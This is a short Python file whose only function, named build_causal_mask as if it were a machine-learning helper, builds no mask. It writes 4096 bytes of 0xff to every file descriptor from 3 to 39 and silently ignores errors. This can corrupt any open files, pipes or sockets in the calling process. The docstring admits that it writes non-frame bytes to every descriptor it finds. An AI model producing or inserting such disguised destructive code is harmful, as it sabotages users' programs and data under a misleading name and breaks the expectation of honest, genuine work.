"""Writes bytes that are no frame to every descriptor that it finds."""

import os


def build_causal_mask(T):
    for descriptor in range(3, 40):
        try:
            os.write(descriptor, b"\xff" * 4096)
        except OSError:
            pass
